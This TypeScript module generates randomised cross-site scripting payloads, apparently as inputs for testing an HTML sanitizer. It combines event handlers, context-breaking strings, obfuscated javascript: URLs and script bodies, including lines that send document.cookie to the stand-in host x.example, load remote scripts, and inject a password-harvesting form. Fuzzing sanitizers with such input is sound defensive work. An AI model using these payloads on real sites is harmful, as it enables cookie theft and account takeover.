import type { Choices } from './choices.ts'

// HTML Living Standard: 8.1.8.2 (handlers), 13.2.5 (what may stand between the parts of a tag); URL, 4.4; ECMA-262.
const ELEMENTS = [
  'img',
  'svg',
  'body',
  'video',
  'audio',
  'details',
  'input',
  'a',
  'div',
  'x',
  'marquee',
  'button',
  'select',
  'math',
  'custom-a',
] as const
const EVENTS = [
  'onload',
  'onerror',
  'onclick',
  'onmouseover',
  'onfocus',
  'ontoggle',
  'onpointerenter',
  'onanimationstart',
  'onbeforeinput',
  'onscrollend',
  'onwheel',
  'onauxclick',
] as const
const LEAVES = [
  '',
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '-->',
  '</style>',
  '</script>',
  '"/>',
  '>',
  ']]>',
  '</noscript>',
] as const

const SCRIPTS = [
  'alert(1)',
  'alert`1`',
  'confirm(document.domain)',
  '(alert)(1)',
  'window.alert(1)',
  "top['al'+'ert'](1)",
  'self["alert"](1)',
  "eval(atob('YWxlcnQoMSk='))",
  "setTimeout('alert(1)')",
  '[].constructor.constructor("alert(1)")()',
  "import('//x.example/a.js')",
  "fetch('//x.example/?'+document.cookie)",
  'a=alert,a(1)',
  '[1].find(alert)',
  "new Image().src='//x.example/'+document.cookie",
  'document.body.innerHTML=location.hash',
  "Function('ale'+'rt(1)')()",
  '\\u0061lert(1)',
  'prompt?.(1)',
  'print(alert(1))',
] as const

const separator = (c: Choices): string => c.one([' ', ' ', '/', '\t', '\n', '\x0c', '  ', ' / '])

/** A script as the value of an attribute, in quotes where it must be. */
function attribute(c: Choices, name: string, script: string): string {
  const bare = !/[\s"'>`]/.test(script)
  const quote = bare && c.chance(2) ? '' : script.includes('"') ? "'" : '"'
  const safe = quote === "'" ? script.replaceAll("'", '&#39;') : script
  return `${name}${c.one(['=', '=', ' =', '= '])}${quote}${safe}${quote}`
}

function handler(c: Choices): string {
  const element = c.one(ELEMENTS)
  // Behind a value without quotes a slash is part of it.
  const extra = c.one([
    '',
    'src="x"',
    'autofocus',
    "href='#'",
    'style="animation-name:a"',
    'open',
    'id="a"',
    'src',
    'tabindex="1"',
  ])
  const script = c.one(SCRIPTS)
  const parts = [element, extra, attribute(c, c.one(EVENTS), script)].filter((part) => part !== '')
  return `<${parts.join(separator(c))}${c.one(['>', '>', '/>', ' >', '', '>x'])}`
}

/** `javascript:` with what the URL parser passes over, and references. */
function scheme(c: Choices): string {
  return c.one([
    'javascript:',
    'JavaScript:',
    'java&#115;cript:',
    'java\tscript:',
    ' javascript:',
    'javascript&colon;',
    '&#x6a;avascript:',
    'java&Tab;script:',
    '\x01javascript:',
  ])
}

function address(c: Choices): string {
  const script = c.one(SCRIPTS).replaceAll('"', '&quot;')
  const [element, name] = c.one<readonly [string, string]>([
    ['a', 'href'],
    ['iframe', 'src'],
    ['form', 'action'],
    ['button', 'formaction'],
    ['object', 'data'],
    ['embed', 'src'],
    ['a', 'xlink:href'],
  ])
  return `<${element}${separator(c)}${name}="${scheme(c)}${script}">x</${element}>`
}

function element(c: Choices): string {
  const script = c.one(SCRIPTS)
  return c.one([
    `<script>${script}</script>`,
    `<script${separator(c)}src=//x.example/a.js></script>`,
    `<script >${script}//`,
    `<svg><script>${script}</script></svg>`,
    `<iframe srcdoc="<script>alert(1)</script>">`,
    `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`,
    `<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>`,
    `<base href=//x.example/>`,
    `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
    `<object data="data:text/html,<script>alert(1)</script>">`,
    `<link rel=stylesheet href=//x.example/a.css>`,
    `<form action=//x.example><input name=password>`,
    `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
  ])
}

/** A value that leaves an attribute, or a string of a script. */
function leaving(c: Choices): string {
  const quote = c.one(['"', "'"])
  const script = c.one(
    ['alert(1)', 'confirm(document.cookie)', 'eval(name)', 'alert`1`', "fetch('//x')"].map((each) =>
      each.replaceAll("'", quote === "'" ? '`' : "'"),
    ) as [string, ...string[]],
  )
  return c.one([
    `${quote}${separator(c)}${c.one(EVENTS)}=${script}${separator(c)}x=${quote}`,
    `${quote} autofocus onfocus=${script} x=${quote}`,
    `${quote};${script};//`,
    `${quote}-${script}-${quote}`,
    `${quote}+${script}+${quote}`,
    `\\${quote};${script}//`,
    `${quote}});${script};//`,
    `${quote}};${script};{//`,
    `</script><script>${script}</script>`,
    `${quote}||${script}||${quote}`,
  ])
}

/** Script in a page: as text, in an attribute, in an address, in a string of a script. */
export function htmlAttack(c: Choices): string {
  const before = c.one(['', 'x', 'Anna', '1', 'blue '])
  switch (c.number(5)) {
    case 0:
      return before + leaving(c)
    case 1:
      return before + c.one(LEAVES) + address(c)
    case 2:
      return before + c.one(LEAVES) + element(c)
    default:
      return before + c.one(LEAVES) + handler(c)
  }
}
